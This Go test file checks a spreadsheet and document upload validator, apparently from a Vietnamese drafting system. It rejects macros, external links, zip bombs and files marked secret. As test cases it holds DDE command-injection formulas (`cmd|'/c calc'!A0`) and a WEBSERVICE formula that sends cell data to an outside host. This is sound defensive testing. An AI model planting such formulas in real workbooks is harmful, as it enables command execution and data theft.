package intake_test

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"trinhky/internal/docx"
	"trinhky/internal/domain"
	"trinhky/internal/proof/testkit"
)

const (
	sheetMedia = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	office     = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	excelType  = "application/vnd.openxmlformats-officedocument.spreadsheetml."
)

// book is a workbook as it is packed: what a part is, and what it holds, by name.
type book map[string]struct{ contentType, content string }

// workbook is one sheet of a few rows.
func workbook() book {
	return book{
		"xl/workbook.xml":            {excelType + "sheet.main+xml", `<workbook><sheets><sheet name="Số liệu" sheetId="1"/></sheets></workbook>`},
		"xl/worksheets/sheet1.xml":   {excelType + "worksheet+xml", sheetOf(`<c r="A1" t="s"><v>0</v></c>`, `<c r="A2"><f>SUM(B2:B9)*IF(C2="a|b!c",1,2)</f><v>7</v></c>`)},
		"xl/sharedStrings.xml":       {excelType + "sharedStrings+xml", shared("Bảng tổng hợp")},
		"xl/_rels/workbook.xml.rels": {"", rels("worksheet>worksheets/sheet1.xml", "sharedStrings>sharedStrings.xml")},
		"_rels/.rels":                {"", rels("officeDocument>xl/workbook.xml")},
		"xl/media/photo.jpeg":        {"image/jpeg", "not looked at"},
	}
}

func sheetOf(cells ...string) string {
	var b strings.Builder
	b.WriteString("<worksheet><sheetData>")
	for _, c := range cells {
		fmt.Fprintf(&b, "<row>%s</row>", c)
	}
	return b.String() + "</sheetData></worksheet>"
}

func shared(texts ...string) string {
	return "<sst><si><t>" + strings.Join(texts, "</t></si><si><t>") + "</t></si></sst>"
}

// rels are relationships, each "kind>target"; one that leads outside ends in "!".
func rels(lines ...string) string {
	var b strings.Builder
	b.WriteString("<Relationships>")
	for i, line := range lines {
		kind, target, _ := strings.Cut(line, ">")
		mode := ""
		if strings.HasSuffix(target, "!") {
			target, mode = strings.TrimSuffix(target, "!"), ` TargetMode="External"`
		}
		fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="%s" Target="%s"%s/>`, i+1, office+kind, target, mode)
	}
	return b.String() + "</Relationships>"
}

// with is the workbook with a part changed or added.
func (b book) with(name, contentType, content string) book {
	b[name] = struct{ contentType, content string }{contentType, content}
	return b
}

func (b book) sheet(content string) book {
	return b.with("xl/worksheets/sheet1.xml", excelType+"worksheet+xml", content)
}

func (b book) packed(t *testing.T) []byte {
	t.Helper()
	var types strings.Builder
	types.WriteString(`<Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`)
	for name, part := range b {
		if part.contentType != "" {
			fmt.Fprintf(&types, `<Override PartName="/%s" ContentType="%s"/>`, name, part.contentType)
		}
	}
	types.WriteString("</Types>")
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	write := func(name, content string) {
		part, err := w.Create(name)
		require.NoError(t, err)
		_, err = io.WriteString(part, content)
		require.NoError(t, err)
	}
	write("[Content_Types].xml", types.String())
	for name, part := range b {
		write(name, part.content)
	}
	require.NoError(t, w.Close())
	return out.Bytes()
}

func TestASpreadsheetIsTakenUnlessItRunsReachesOutOrIsSecret(t *testing.T) {
	t.Parallel()
	h := enter(t)
	doc, _, err := h.Draft(context.Background(), h.c.Drafter, "form", file("a.docx", corrected(t)), nil)
	require.NoError(t, err)
	cell := func(text string) book {
		return workbook().with("xl/sharedStrings.xml", excelType+"sharedStrings+xml", shared(text))
	}
	formula := func(text string) book { return workbook().sheet(sheetOf("<c r=\"A99\"><f>" + text + "</f></c>")) }
	for name, c := range map[string]struct {
		book book
		key  string // empty: taken
	}{
		"a plain one":                   {workbook(), ""},
		"a link to be clicked":          {workbook().with("xl/worksheets/_rels/sheet1.xml.rels", "", rels("hyperlink>https://vbpl.vn/!")), ""},
		"a pipe and a mark in a text":   {formula(`A1&amp;"cmd|'/c calc'!A0"`), ""},
		"a word that is honey":          {cell("Mật"), ""},
		"a word within a sentence":      {cell("Danh mục tài liệu MẬT năm 2024"), ""},
		"a column of secrecy":           {workbook().sheet(sheetOf(`<c r="C4" t="inlineStr"><is><t>Độ mật</t></is></c>`, `<c r="C5" t="inlineStr"><is><t>MẬT</t></is></c>`)), ""},
		"a list far down":               {workbook().sheet(sheetOf(`<c r="C40" t="inlineStr"><is><t>MẬT</t></is></c>`)), ""},
		"macros":                        {workbook().with("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", "x"), "upload.macro"},
		"macros under another name":     {workbook().with("xl/code.bin", "application/vnd.ms-office.vbaProject", "x"), "upload.macro"},
		"macros of before 1993":         {workbook().with("xl/sheets/s.xml", "application/vnd.ms-excel.macrosheet+xml", "<x/>"), "upload.macro"},
		"a workbook that may run":       {workbook().with("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "<workbook/>"), "upload.macro"},
		"a link to another book":        {workbook().with("xl/_rels/workbook.xml.rels", "", rels("worksheet>worksheets/sheet1.xml", "externalLink>externalLinks/externalLink1.xml")), "upload.links"},
		"a part that is such a link":    {workbook().with("xl/x.xml", excelType+"externalLink+xml", "<externalLink/>"), "upload.links"},
		"a connection":                  {workbook().with("xl/connections.xml", excelType+"connections+xml", "<connections/>"), "upload.links"},
		"a picture from elsewhere":      {workbook().with("xl/worksheets/_rels/sheet1.xml.rels", "", rels("image>http://10.0.0.1/a.png!")), "upload.links"},
		"an embedded object":            {workbook().with("xl/worksheets/_rels/sheet1.xml.rels", "", rels("oleObject>../embeddings/o.bin")), "upload.links"},
		"DDE":                           {formula(`cmd|'/c calc'!A0`), "upload.links"},
		"DDE by its function":           {formula(`1+dde("soffice";"a";"b")`), "upload.links"},
		"a call of an address":          {formula(`_xlfn.WEBSERVICE("http://10.0.0.1/?"&amp;A1)`), "upload.links"},
		"a name that calls":             {workbook().with("xl/workbook.xml", excelType+"sheet.main+xml", `<workbook><definedNames><definedName name="a">RTD("x",,"y")</definedName></definedNames></workbook>`), "upload.links"},
		"a mark in a cell":              {cell("MẬT"), "upload.secret"},
		"a mark that is introduced":     {cell("Độ mật: Mật"), "upload.secret"},
		"a mark in several pieces":      {workbook().with("xl/sharedStrings.xml", excelType+"sharedStrings+xml", "<sst><si><r><t>TUYỆT </t></r><r><t>MẬT</t></r></si></sst>"), "upload.secret"},
		"a mark in the cell itself":     {workbook().sheet(sheetOf(`<c r="F2" t="inlineStr"><is><t>TỐI MẬT</t></is></c>`)), "upload.secret"},
		"a mark on the printed page":    {workbook().sheet(`<worksheet><headerFooter><oddHeader>&amp;L&amp;"Times,Bold"&amp;14MẬT&amp;RTrang &amp;P</oddHeader></headerFooter></worksheet>`), "upload.secret"},
		"a mark as the name of a sheet": {workbook().with("xl/workbook.xml", excelType+"sheet.main+xml", `<workbook><sheets><sheet name="TUYỆT MẬT"/></sheets></workbook>`), "upload.secret"},
		"a mark in a shape":             {workbook().with("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<wsDr><sp><txBody><p><r><t>TỐI </t></r><r><t>MẬT</t></r></p></txBody></sp></wsDr>`), "upload.secret"},
		"a part that bursts":            {workbook().with("xl/media/photo.jpeg", "image/jpeg", strings.Repeat("\x00", 40<<20)), "upload.bomb"},
		"what is no XML":                {workbook().sheet("<worksheet>"), "upload.damaged"},
		"two documents in one":          {workbook().with("_rels/.rels", "", rels("officeDocument>xl/workbook.xml", "officeDocument>word/document.xml")), "upload.damaged"},
		"nothing that says what it is":  {workbook().with("_rels/.rels", "", rels("thumbnail>a.png")), "upload.kind"},
		"a presentation":                {book{"ppt/p.xml": {"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "<p/>"}, "_rels/.rels": {"", rels("officeDocument>ppt/p.xml")}}, "upload.kind"},
	} {
		a, err := h.AddAnnex(context.Background(), h.c.Drafter, doc.ID, name, domain.AnnexAttachment, file("số liệu.xlsx", c.book.packed(t)))
		if c.key != "" {
			var known *domain.Error
			require.ErrorAs(t, err, &known, name)
			require.Equal(t, c.key, known.Key, "%s: %v", name, err)
			continue
		}
		require.NoError(t, err, name)
		require.Equal(t, sheetMedia, a.MediaType, name)
	}
}

func TestAKindOfFileIsToldByWhatItOpensWithAndNotByTheNameOfAPart(t *testing.T) {
	t.Parallel()
	h := enter(t)
	doc, _, err := h.Draft(context.Background(), h.c.Drafter, "form", file("a.docx", corrected(t)), nil)
	require.NoError(t, err)
	before := h.objects(t)
	_, err = h.AddAnnex(context.Background(), h.c.Drafter, doc.ID, "secret", domain.AnnexAttachment,
		file("phụ lục.docx", testkit.Fixture(t, "hostile/secret-with-empty-workbook.docx")))
	refused(t, err, domain.ErrUnsupported, "upload.secret")
	require.Equal(t, before, h.objects(t), "not a byte is kept")

	plain := repacked(t, corrected(t), "xl/workbook.xml", strings.NewReader("<x/>"), zip.Store)
	a, err := h.AddAnnex(context.Background(), h.c.Drafter, doc.ID, "plain", domain.AnnexAttachment, file("phụ lục.xlsx", plain))
	require.NoError(t, err)
	require.Equal(t, []string{docx.MediaType, "phụ lục.docx"}, []string{a.MediaType, a.FileName})
	_, err = h.AddAnnex(context.Background(), h.c.Drafter, doc.ID, "macro", domain.AnnexAttachment,
		file("phụ lục.xlsx", repacked(t, plain, "word/vbaProject.bin", strings.NewReader("x"), zip.Store)))
	refused(t, err, domain.ErrUnsupported, "upload.macro")
}

func TestAFileIsHandedOnUnderTheExtensionOfWhatItIs(t *testing.T) {
	t.Parallel()
	h := enter(t)
	doc, _, err := h.Draft(context.Background(), h.c.Drafter, "form", file("a.docx", corrected(t)), nil)
	require.NoError(t, err)
	pdf, photo := read(t, pdfOf(100)), jpegOf(t)
	for i, c := range []struct {
		given string
		body  []byte
		kept  string
	}{
		{"phu-luc.hta", testkit.Fixture(t, "hostile/script-with-pdf-head.hta"), "phu-luc.pdf"},
		{"phu-luc.PDF", pdf, "phu-luc.PDF"},
		{"phu-luc.pdf.exe", pdf, "phu-luc.pdf"},
		{"Báo cáo số 1.2024", pdf, "Báo cáo số 1.2024.pdf"},
		{"bao-cao", pdf, "bao-cao.pdf"},
		{".hta", pdf, "tep.pdf"},
		{"anh.JPEG", photo, "anh.JPEG"},
		{"anh.png", photo, "anh.jpg"},
		{strings.Repeat("dài", 100) + ".exe", pdf, "i" + strings.Repeat("dài", 65) + ".pdf"},
	} {
		a, err := h.AddAnnex(context.Background(), h.c.Drafter, doc.ID, fmt.Sprint("annex ", i), domain.AnnexAttachment, file(c.given, c.body))
		require.NoError(t, err, c.given)
		require.Equal(t, c.kept, a.FileName)
	}
}

func TestWhatCannotBePrintedInGoodTimeIsToldAtUpload(t *testing.T) {
	t.Parallel()
	h := enter(t)
	large := testkit.Fixture(t, "hostile/large-table.docx")
	_, _, err := h.Draft(context.Background(), h.c.Drafter, "draft", file("a.docx", large), nil)
	refused(t, err, domain.ErrTooLarge, "upload.too_long")
	h.nothingKept(t)
}
